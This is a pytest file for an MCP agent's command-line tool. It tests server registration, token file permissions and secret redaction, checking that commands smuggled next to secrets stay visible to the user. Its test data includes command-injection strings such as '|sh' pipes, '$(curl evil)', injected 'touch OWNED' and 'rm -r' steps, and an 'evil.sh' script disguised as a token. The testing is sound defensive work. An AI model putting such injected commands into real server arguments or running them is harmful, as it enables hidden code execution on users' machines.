"""`add` and `discover --take` with names, files and entries that somebody else has a hand in."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.cli.test_servers import command
from xai_mcp_agent.canvas.person import shown_text
from xai_mcp_agent.core.visible import escaped
from xai_mcp_agent.secrets.redactor import redact_args
from xai_mcp_agent.secrets.secrets import Secrets
from xai_mcp_agent.settings.load import load_settings

UNKNOWN = ("--no-check", "--", "some-server")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with nothing in it, in which nothing is trusted that was not agreed to."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "configuration"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return tmp_path


def write(folder: Path, document: dict[str, Any]) -> Path:
    file = folder / "mcp_settings.json"
    file.write_text(json.dumps(document), encoding="utf-8")
    return file


def test_a_source_of_another_kind_is_not_replaced_and_not_trusted(
    folder: Path, capsys: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XAI_MCP_TRUST", "none")
    file = write(folder, {"functions": {"git": {"file": "evil.py"}}})
    before = file.read_bytes()
    status, _, err = command(capsys, "servers", "add", "git", "--replace", *UNKNOWN)
    assert (status, file.read_bytes()) == (1, before)
    assert "functions.git" in err
    assert "xai-mcp-agent servers remove git" in err


def test_a_group_is_not_replaced(folder: Path, capsys: Any) -> None:
    write(folder, {"mcpServers": {}, "groups": {"mine": {"tools": ["a/b"]}}})
    status, _, err = command(capsys, "servers", "add", "mine", "--replace", *UNKNOWN)
    assert status == 1
    assert "a group of this name" in err


@pytest.mark.parametrize("name", ["a/b", "a\nb", "a\x1b[31mb", "canvas"])
def test_a_name_that_could_not_be_given_again_is_refused(
    folder: Path, capsys: Any, name: str
) -> None:
    status, _, err = command(capsys, "servers", "add", name, *UNKNOWN)
    assert status == 2
    assert "cannot be a server's name" in " ".join(err.split())
    assert not (folder / "mcp_settings.json").exists()


@pytest.mark.parametrize("words", [("",), (" ",), ("srv", "\udcff")])
def test_a_command_that_is_invalid_is_refused(
    folder: Path, capsys: Any, words: tuple[str, ...]
) -> None:
    assert command(capsys, "servers", "add", "it", "--no-check", "--", *words)[0] == 2
    assert not (folder / "mcp_settings.json").exists()


def test_a_new_file_with_a_key_in_it_is_for_nobody_else(folder: Path, capsys: Any) -> None:
    key = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
    file = folder / "mcp_settings.json"
    words = ("servers", "add", "it", "--settings", str(file), "-e", f"GITHUB_TOKEN={key}")
    assert command(capsys, *words, *UNKNOWN)[0] == 0
    assert file.stat().st_mode & 0o077 == 0


def test_who_else_can_read_a_file_that_gets_a_key_is_reported(folder: Path, capsys: Any) -> None:
    key, file = "ghp_0123456789abcdefghijABCDEFGHIJ012345", write(folder, {"mcpServers": {}})
    words = ("servers", "add", "it", "--settings", str(file), "-e", f"GITHUB_TOKEN={key}")
    file.chmod(0o644)
    assert f"chmod 600 {file}" in " ".join(command(capsys, *words, *UNKNOWN)[2].split())
    file.chmod(0o600)
    assert "chmod" not in command(capsys, *words, "--replace", *UNKNOWN)[2]


def test_what_cannot_be_written_is_not_shown_with_its_keys(folder: Path, capsys: Any) -> None:
    (folder / "mcp_settings.json").write_text('// c\n{"x": NaN, "mcpServers": {}}')
    key = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
    status, out, err = command(
        capsys, "servers", "add", "it", "-e", f"GITHUB_TOKEN={key}", *UNKNOWN
    )
    assert status == 1
    assert key not in out + err


SCRIPTS = {
    "API_TOKEN=abcdefgh1; touch OWNED": "API_TOKEN=***; touch OWNED",
    "API_TOKEN=abcdefgh1 touch OWNED": "API_TOKEN=*** touch OWNED",
    "API_TOKEN=abcdefgh1|sh": "API_TOKEN=***|sh",
    "API_TOKEN=$(curl evil)": "API_TOKEN=$(curl evil)",
    "API_TOKEN=abcdefgh1$(curl evil)": "API_TOKEN=***$(curl evil)",
    "curl http://e/?key=abcdefgh1;touch OWNED": "curl http://e/?key=***;touch OWNED",
    "curl http://e/?key=abcdefgh1&touch${IFS}OWNED": "curl http://e/?key=***&touch${IFS}OWNED",
    "curl http://e/?key=abcdefgh1&b=2|sh": "curl http://e/?key=***&b=***|sh",
    "curl http://e/?key=abcdefgh1$(rm x)": "curl http://e/?key=***$(rm x)",
    "http://u:abcdefgh1;touch${IFS}x;@e/": "http://***@e/ (*** has ; in it)",
    "TOKEN=abcdefgh1\nrm -r x": "TOKEN=***\nrm -r x",
    "API_TOKEN=./evil.sh ./evil.sh": "API_TOKEN=*** ./evil.sh",
    "API_TOKEN=token ./evil.sh": "API_TOKEN=*** ./evil.sh",
    "TOKEN='abcdefgh1' KEY=hgfedcba2 && rm": "TOKEN='***' KEY=*** && rm",
}


@pytest.mark.parametrize("script", SCRIPTS)
def test_a_command_behind_a_secret_is_shown(folder: Path, script: str) -> None:
    """Nobody agrees to what they cannot see: neither in `discover` nor before a run."""
    assert redact_args(["-c", script], Secrets())[1] == SCRIPTS[script]
    loaded = load_settings(write(folder, {"it": {"command": "sh", "args": ["-c", script]}}))
    told = shown_text(loaded, loaded.parts)
    assert "abcdefgh1" not in told
    assert escaped(SCRIPTS[script].rpartition("***")[2]) in told


def test_a_command_cannot_be_hidden_as_the_secret_of_its_server(folder: Path) -> None:
    entry = {"command": "sh", "args": ["./evil.sh"], "env": {"API_TOKEN": "./evil.sh"}}
    loaded = load_settings(write(folder, {"it": entry}))
    lines = [
        "  it:",
        "      starts sh ./evil.sh",
        "      gets the environment variable API_TOKEN: ***",
    ]
    assert shown_text(loaded, loaded.parts).split("\n") == lines


def test_what_cannot_be_used_yet_is_shown_without_its_keys(folder: Path) -> None:
    entry = {"url": "https://e.org/mcp?key=abcdefgh1&x=${NOT_SET_YET}"}
    loaded = load_settings(write(folder, {"it": entry}))
    told = shown_text(loaded, loaded.parts)
    assert "https://e.org/mcp?key=***" in told
    assert "abcdefgh1" not in told


def test_a_secret_alone_is_only_hidden() -> None:
    assert redact_args(["API_TOKEN=abc123"], Secrets()) == ["API_TOKEN=***"]


def test_a_file_of_a_subfolder_is_found_from_the_folder_of_the_settings(
    folder: Path, capsys: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = write(folder, {"mcpServers": {}})
    (folder / "sub").mkdir()
    (folder / "sub/clock.py").write_text("")
    monkeypatch.chdir(folder / "sub")
    words = ("--settings", str(file), "--no-check", "clock.py")
    assert command(capsys, "servers", "add", "clock", *words)[0] == 0
    written = json.loads(file.read_text())["mcpServers"]["clock"]
    assert written["args"] == [str(folder / "sub/clock.py")]


def test_a_folder_that_is_no_text_is_refused(folder: Path, capsys: Any) -> None:
    assert command(capsys, "servers", "add", "it", "--cwd", "\udcff", *UNKNOWN)[0] == 2
    assert not (folder / "mcp_settings.json").exists()
